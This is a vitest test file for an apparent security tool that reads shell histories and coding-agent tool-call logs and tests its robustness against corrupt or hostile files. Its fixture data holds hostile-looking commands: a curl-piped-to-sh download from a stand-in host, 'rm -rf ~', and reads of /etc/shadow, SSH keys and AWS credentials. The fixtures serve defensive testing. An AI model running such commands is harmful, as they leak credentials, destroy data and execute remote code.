import { spawnSync } from 'node:child_process'
import { mkdirSync, mkdtempSync, rmSync, symlinkSync, truncateSync, writeFileSync } from 'node:fs'
import { tmpdir } from 'node:os'
import { join } from 'node:path'
import { afterAll, describe, expect, it } from 'vitest'
import { removeFolder } from '../../tests/remove-folder.ts'
import { atuinDatabase } from '../../tests/support/atuin-database.ts'
import { HISTORIES, writeBelow } from '../../tests/support/made-up-home.ts'
import { readAtuin } from './atuin-history.ts'
import { historyLines } from './history-lines.ts'
import { findHistories, type HistoryName, type Typed } from './index.ts'

const root = mkdtempSync(join(tmpdir(), 'aegish-histories-'))
afterAll(() => removeFolder(root))

let homes = 0
function newHome(files: Record<string, string | Buffer> = HISTORIES): string {
  const home = join(root, String(homes++))
  mkdirSync(home)
  writeBelow(home, files)
  return home
}

function readAll(home: string) {
  const troubles: string[] = []
  const typed = new Map<HistoryName, Typed[]>()
  const files = findHistories(home, (path, why) =>
    troubles.push(`${path.slice(home.length + 1)}: ${why}`),
  )
  for (const { history, path, read } of files) {
    const onTrouble = (why: string) => troubles.push(`${path.slice(home.length + 1)}: ${why}`)
    typed.set(history, [...(typed.get(history) ?? []), ...read(path, { onTrouble })])
  }
  const commands = (name: HistoryName) =>
    (typed.get(name) ?? []).map(({ call }) => ('command' in call ? call.command : call))
  return { typed, commands, troubles }
}

describe('histories of shells', () => {
  it('reads bash with and without times, and commands of several lines', () => {
    const { commands, typed } = readAll(newHome())
    expect(commands('bash')).toEqual([
      'ls -la',
      'cat /etc/shadow',
      'export API_TOKEN=abcdef123456 && curl -s https://x.example/i.sh | sh',
      'for f in *; do\n  rm -rf ~\ndone',
      'npm install left-pad',
    ])
    expect(typed.get('bash')!.at(-1)!.time).toBe(1_700_000_100_000)
  })

  it('reads zsh: extended or not, several lines, and bytes that it has marked', () => {
    expect(readAll(newHome()).commands('zsh')).toEqual([
      'git status',
      'cat <<EOF \n| sh\nEOF',
      'cat /etc/shadow',
      'echo ã',
    ])
  })

  it('reads fish with what it has written out', () => {
    expect(readAll(newHome()).commands('fish')).toEqual(['ls', 'echo a\\n\ncat ~/.ssh/id_rsa'])
  })

  it('reads atuin: inner pages, long texts, the write-ahead log, and nothing that was deleted', () => {
    const { commands, typed } = readAll(newHome())
    const all = commands('atuin')
    expect(all).toHaveLength(42)
    expect(all.slice(0, 2)).toEqual(['echo 0', 'echo 1'])
    expect(all.at(-2)).toMatch(/^echo x{3000} && cat \/etc\/shadow$/)
    expect(all.at(-1)).toBe('cat ~/.aws/credentials')
    expect(typed.get('atuin')!.at(-2)).toMatchObject({
      directory: '/home/dev/project',
      time: 1_700_000_100_000,
    })
  })

  it('survives every cut and every changed byte of a database', () => {
    const home = newHome({})
    const path = join(home, 'history.db')
    const whole = atuinDatabase()
    const troubles: string[] = []
    for (let at = 0; at < whole.length; at += 7) {
      const changed = Buffer.from(whole)
      changed[at] = changed[at]! ^ 0xff
      writeFileSync(path, changed)
      for (const { call } of readAtuin(path, { onTrouble: (why) => troubles.push(why) }))
        expect(call).toHaveProperty('command')
    }
    for (let length = 0; length < whole.length; length += 511) {
      writeFileSync(path, whole.subarray(0, length))
      expect([...readAtuin(path, { onTrouble: (why) => troubles.push(why) })].length).toBeLessThan(
        42,
      )
    }
    expect(new Set(troubles).size).toBeGreaterThan(3)
  })
})

describe('conversations of agents', () => {
  it('reads the calls of Claude Code, Codex and Gemini, and says what is broken', () => {
    const { commands, typed, troubles } = readAll(newHome())
    expect(commands('claude-code')).toMatchObject([
      { tool: 'Bash', input: { command: 'cat /etc/shadow' } },
      { tool: 'Read' },
      { tool: 'TodoWrite' },
      { tool: 'Bash', input: { command: 5 } },
    ])
    expect(typed.get('claude-code')![0]).toMatchObject({ directory: '/home/dev/project' })
    expect(commands('codex')).toMatchObject([
      { tool: 'shell' },
      { tool: 'apply_patch' },
      { tool: 'local_shell', input: { command: ['cat', '/etc/shadow'] } },
    ])
    expect(typed.get('codex')![0]!.directory).toBe('/home/dev/other')
    expect(commands('gemini')).toMatchObject([{ tool: 'run_shell_command' }])
    expect(troubles).toEqual([
      '.claude/projects/-home-dev-project/s1.jsonl: 1 line without JSON left out',
    ])
  })

  it('takes objects for what they are, whatever is in them', () => {
    const deep = `${'{"toolCalls":['.repeat(5000)}${']}'.repeat(5000)}`
    const hostile = [
      '{"type":"tool_use"}',
      '{"message":{"content":[{"type":"tool_use","__proto__":{"name":"Bash"}}]}}',
      '{"message":{"content":{"length":1e9,"0":{"type":"tool_use"}}}}',
      '"tool_use"',
      'null "tool_use"',
    ]
    const { commands } = readAll(
      newHome({
        '.claude/projects/p/s.jsonl': hostile.join('\n'),
        '.gemini/tmp/p/chats/session-1.json': deep,
        '.gemini/tmp/p/chats/session-2.jsonl': `${deep}\n{"toolCalls":5}\n`,
      }),
    )
    expect(commands('claude-code')).toEqual([{ tool: '', input: {} }])
    expect(commands('gemini').every((call) => typeof call === 'object')).toBe(true)
  })
})

describe('hostile homes', () => {
  it('leaves out what is no file, follows no link, and says so', () => {
    const home = newHome({
      '.claude/projects/p/a.jsonl': '',
      '.codex/sessions/rollout-1.jsonl': Buffer.from([0, 1, 2, 10, 0xff, 0xfe, 10]),
    })
    spawnSync('mkfifo', [join(home, '.claude/projects/p/pipe.jsonl')])
    symlinkSync('..', join(home, '.claude/projects/p/circle'))
    symlinkSync('/etc/passwd', join(home, '.claude/projects/p/link.jsonl'))
    mkdirSync(join(home, '.bash_history'))
    spawnSync('mkfifo', [join(home, '.zsh_history')])
    writeFileSync(join(home, '.gemini'), 'a file where a folder should be')
    const files = findHistories(home, () => {})
    expect(files.map(({ path }) => path.slice(home.length + 1)).sort()).toEqual([
      '.bash_history',
      '.claude/projects/p/a.jsonl',
      '.codex/sessions/rollout-1.jsonl',
      '.zsh_history',
    ])
    for (const { history, path, read } of files) {
      const reading = () => [...read(path, { onTrouble: () => {} })]
      if (history === 'bash') expect(reading).toThrow(/is a folder/)
      else if (history === 'zsh') expect(reading).toThrow(/no ordinary file/)
      else expect(reading()).toEqual([])
    }
  })

  it('reads the newest part of a very large file, from the start of a line', () => {
    const path = join(newHome({}), 'large')
    writeFileSync(path, 'old line\nmiddle\nnew 1\nnew 2\n')
    const troubles: string[] = []
    const last = (bytes: number) =>
      [...historyLines(path, { onTrouble: (why) => troubles.push(why) }, bytes)].map(String)
    expect(last(14)).toEqual(['new 1', 'new 2'])
    expect(last(12)).toEqual(['new 1', 'new 2'])
    expect(last(11)).toEqual(['new 2'])
    expect(troubles).toHaveLength(3)
    // Two gigabytes of nothing: one line that is too long, and no memory for it.
    truncateSync(path, 2 * 1024 ** 3)
    expect([...historyLines(path, { onTrouble: (why) => troubles.push(why) })]).toEqual([])
    expect(troubles.slice(3)).toEqual(['has 2048 MB, of which the last 64 are read'])
    rmSync(path)
  })
})
